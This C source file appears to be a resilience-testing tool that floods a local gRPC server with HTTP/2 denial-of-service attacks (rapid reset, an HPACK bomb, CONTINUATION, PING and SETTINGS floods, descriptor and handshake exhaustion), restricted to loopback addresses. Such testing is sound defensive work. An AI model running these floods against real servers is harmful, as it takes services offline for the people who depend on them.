/*
 * One member's client turned hostile: floods that take gRPC 1.51's own listener out, for some
 * seconds, against one server. Prints what it did and how it was answered as one line of key=value.
 *
 *   fault_attack --port PORT [--address A] --ca FILE --certificate FILE --key FILE ATTACK SECONDS
 *
 * It reconnects as fast as it is let in. Only for servers of one's own, on the same machine: any
 * address but a loopback one is refused.
 */
#include <errno.h>
#include <getopt.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#include <openssl/err.h>

#include "base/check.h"
#include "base/clock.h"
#include "support/tlsclient.h"
#include "support/wire.h"

enum { SECONDS_MAX = 60, SOCKETS_MAX = 3000, BATCH = 200, WRITE_TIMEOUT_MS = 1000 };

struct attack {
    struct tls_client_options target;
    int64_t end_us;
    uint32_t stream; /* next to open on this connection */
    uint64_t connection_count;
    uint64_t refused_count; /* connects or handshakes that failed */
    uint64_t closed_count;  /* connections that the server ended */
    uint64_t frame_count;
    uint64_t byte_count;
    char goaway[64]; /* debug data of the latest GOAWAY */
};

static struct wire wire;

static bool is_over(const struct attack *attack)
{
    return clock_monotonic_us() >= attack->end_us;
}

/* What is sent again and again */

static void put_call(struct attack *attack, int flags)
{
    struct wire block = {.size = 0};

    wire_call_fields(&block, "/cix.v1.ReportService/GetReport");
    wire_frame(&wire, WIRE_HEADERS, WIRE_END_HEADERS | flags, attack->stream, &block);
    attack->frame_count++;
}

static void put_rapid_reset(struct attack *attack)
{
    put_call(attack, 0);
    wire_number(&wire, WIRE_RST_STREAM, attack->stream, 8);
    attack->frame_count++;
    attack->stream += 2;
}

/* An entry of 4,000 bytes in the table, then thousands of one-byte references to it. */
static void put_hpack_bomb(struct attack *attack)
{
    static const char value[4000];
    struct wire block = {.size = 0};

    if (attack->stream == 1) {
        wire_integer(&block, 6, 0x40, 0);
        wire_integer(&block, 7, 0, 1);
        wire_bytes(&block, "x", 1);
        wire_integer(&block, 7, 0, sizeof(value));
        wire_bytes(&block, value, sizeof(value));
    } else {
        for (int i = 0; i < 4000; i++)
            wire_integer(&block, 7, 0x80, 62);
    }
    wire_frame(&wire, WIRE_HEADERS, WIRE_END_HEADERS, attack->stream, &block);
    attack->frame_count++;
    attack->stream += 2;
}

/* A header block that never ends, in small pieces. */
static void put_continuation(struct attack *attack)
{
    struct wire field = {.size = 0};

    wire_field(&field, "x", "y");
    if (attack->stream == 1)
        wire_frame(&wire, WIRE_HEADERS, 0, attack->stream, &field);
    attack->stream = 3;
    wire_frame(&wire, WIRE_CONTINUATION, 0, 1, &field);
    attack->frame_count++;
}

static void put_settings(struct attack *attack)
{
    wire_header(&wire, 6, WIRE_SETTINGS, 0, 0);
    wire_bytes(&wire, "\0\4\0\0\xff\xff", 6);
    attack->frame_count++;
}

static void put_ping(struct attack *attack)
{
    wire_zeros(&wire, 8, WIRE_PING, 0, 0);
    attack->frame_count++;
}

static void put_empty_data(struct attack *attack)
{
    if (attack->stream == 1)
        put_call(attack, 0);
    attack->stream = 3;
    wire_header(&wire, 0, WIRE_DATA, 0, 1);
    attack->frame_count++;
}

/* Floods on authenticated connections */

/* Takes what the server says; remembers why it says goodbye. False at the end of the stream. */
static bool listen_a_moment(struct attack *attack, struct tls_client *client)
{
    struct pollfd poll_fd = {.fd = client->fd, .events = POLLIN};
    uint8_t data[16384];

    while (SSL_pending(client->ssl) > 0 || poll(&poll_fd, 1, 0) == 1) {
        size_t size = tls_client_read(client, data, sizeof(data));

        if (size == 0)
            return false;
        for (size_t i = 0; i + 17 <= size; i++) {
            static const uint8_t rest[] = {WIRE_GOAWAY, 0, 0, 0, 0, 0};
            size_t word = (size_t)data[i + 2] - 8;

            if (data[i] || data[i + 1] || memcmp(data + i + 3, rest, sizeof(rest)) != 0)
                continue;
            if (word < sizeof(attack->goaway) && i + 17 + word <= size) {
                memcpy(attack->goaway, data + i + 17, word);
                attack->goaway[word] = '\0';
            }
        }
    }
    return true;
}

static void flood_connection(struct attack *attack, void (*put)(struct attack *))
{
    struct tls_client client;

    attack->connection_count++;
    if (!tls_client_open(&client, &attack->target)) {
        attack->refused_count++;
        tls_client_close(&client);
        return;
    }
    attack->stream = 1;
    wire.size = 0;
    wire_open(&wire);
    /* With TLS 1.3 a refusal shows only at the first read. */
    uint8_t first;
    bool is_open =
        tls_client_write(&client, wire.data, wire.size) && tls_client_read(&client, &first, 1) == 1;
    attack->refused_count += !is_open;
    bool is_let_in = is_open;
    while (is_open && !is_over(attack)) {
        wire.size = 0;
        for (int i = 0; i < BATCH && wire.size + 8192 < WIRE_MAX; i++)
            put(attack);
        is_open =
            tls_client_write(&client, wire.data, wire.size) && listen_a_moment(attack, &client);
        attack->byte_count += wire.size;
    }
    attack->closed_count += is_let_in && !is_open;
    tls_client_close(&client);
}

static void flood(struct attack *attack, void (*put)(struct attack *))
{
    while (!is_over(attack))
        flood_connection(attack, put);
}

/* Floods without a certificate */

static void flood_handshakes(struct attack *attack)
{
    attack->target.certificate_file = attack->target.key_file = NULL;
    while (!is_over(attack)) {
        struct tls_client client;
        uint8_t byte;

        attack->connection_count++;
        if (!tls_client_open(&client, &attack->target) || !tls_client_read(&client, &byte, 1))
            attack->refused_count++;
        tls_client_close(&client);
    }
}

/* Holds as many idle TCP connections as it gets, and takes new ones for those that were closed. */
static void hold_descriptors(struct attack *attack)
{
    static int sockets[SOCKETS_MAX];
    int count = 0;

    while (!is_over(attack)) {
        struct pollfd poll_fd = {.events = POLLIN};
        int *place = &sockets[count % SOCKETS_MAX];
        char byte;

        if (count >= SOCKETS_MAX) {
            poll_fd.fd = *place;
            attack->closed_count +=
                poll(&poll_fd, 1, 0) == 1 && recv(*place, &byte, 1, MSG_DONTWAIT) <= 0;
            close(*place);
        }
        *place = tcp_connect(attack->target.address, attack->target.port, WRITE_TIMEOUT_MS);
        attack->connection_count++;
        count++;
        if (*place < 0)
            attack->refused_count++;
    }
    for (int i = 0; i < count && i < SOCKETS_MAX; i++)
        if (sockets[i] >= 0)
            close(sockets[i]);
}

static const struct kind {
    const char *name;
    void (*put)(struct attack *); /* flood of frames, or */
    void (*run)(struct attack *); /* something else */
} kinds[] = {
    {"rapid-reset", put_rapid_reset, NULL},
    {"hpack-bomb", put_hpack_bomb, NULL},
    {"continuation", put_continuation, NULL},
    {"settings", put_settings, NULL},
    {"ping", put_ping, NULL},
    {"empty-data", put_empty_data, NULL},
    {"descriptors", NULL, hold_descriptors},
    {"handshake-flood", NULL, flood_handshakes},
};

static const struct kind *kind_find(const char *name)
{
    for (size_t i = 0; i < ARRAY_LENGTH(kinds); i++)
        if (strcmp(kinds[i].name, name) == 0)
            return &kinds[i];
    return NULL;
}

static int usage(void)
{
    fputs("usage: fault_attack --port PORT [--address A] --ca FILE --certificate FILE --key FILE"
          " ATTACK SECONDS\nattacks:",
          stderr);
    for (size_t i = 0; i < ARRAY_LENGTH(kinds); i++)
        fprintf(stderr, " %s", kinds[i].name);
    fputs("\n", stderr);
    return 2;
}

static bool options_read(int argc, char **argv, struct tls_client_options *target)
{
    static const struct option names[] = {
        {"address", required_argument, NULL, 'a'}, {"port", required_argument, NULL, 'p'},
        {"ca", required_argument, NULL, 'c'},      {"certificate", required_argument, NULL, 'e'},
        {"key", required_argument, NULL, 'k'},     {0}};

    for (int option; (option = getopt_long(argc, argv, "", names, NULL)) != -1;) {
        switch (option) {
        case 'a':
            target->address = optarg;
            break;
        case 'p':
            target->port = (int)strtol(optarg, NULL, 10);
            break;
        case 'c':
            target->ca_file = optarg;
            break;
        case 'e':
            target->certificate_file = optarg;
            break;
        case 'k':
            target->key_file = optarg;
            break;
        default:
            return false;
        }
    }
    return target->port > 0 && target->certificate_file && target->key_file &&
           (!target->address || strncmp(target->address, "127.", 4) == 0 ||
            strcmp(target->address, "::1") == 0);
}

static void descriptors_raise(void)
{
    struct rlimit limit;

    CHECK(getrlimit(RLIMIT_NOFILE, &limit) == 0);
    limit.rlim_cur = limit.rlim_max < SOCKETS_MAX + 64 ? limit.rlim_max : SOCKETS_MAX + 64;
    CHECK(setrlimit(RLIMIT_NOFILE, &limit) == 0);
}

int main(int argc, char **argv)
{
    struct attack attack = {.target = {.timeout_ms = WRITE_TIMEOUT_MS}};
    int64_t begin_us = clock_monotonic_us();

    if (!options_read(argc, argv, &attack.target) || argc - optind != 2)
        return usage();
    const struct kind *kind = kind_find(argv[optind]);
    double seconds = strtod(argv[optind + 1], NULL);
    if (!kind || !(seconds > 0 && seconds <= SECONDS_MAX))
        return usage();
    signal(SIGPIPE, SIG_IGN);
    descriptors_raise();
    attack.end_us = begin_us + (int64_t)(seconds * 1e6);
    if (kind->run)
        kind->run(&attack);
    else
        flood(&attack, kind->put);
    printf("attack=%s seconds=%.1f connections=%llu refused=%llu closed=%llu frames=%llu bytes=%llu"
           " goaway=%s\n",
           kind->name, (double)(clock_monotonic_us() - begin_us) / 1e6,
           (unsigned long long)attack.connection_count, (unsigned long long)attack.refused_count,
           (unsigned long long)attack.closed_count, (unsigned long long)attack.frame_count,
           (unsigned long long)attack.byte_count, attack.goaway[0] ? attack.goaway : "-");
    return 0;
}
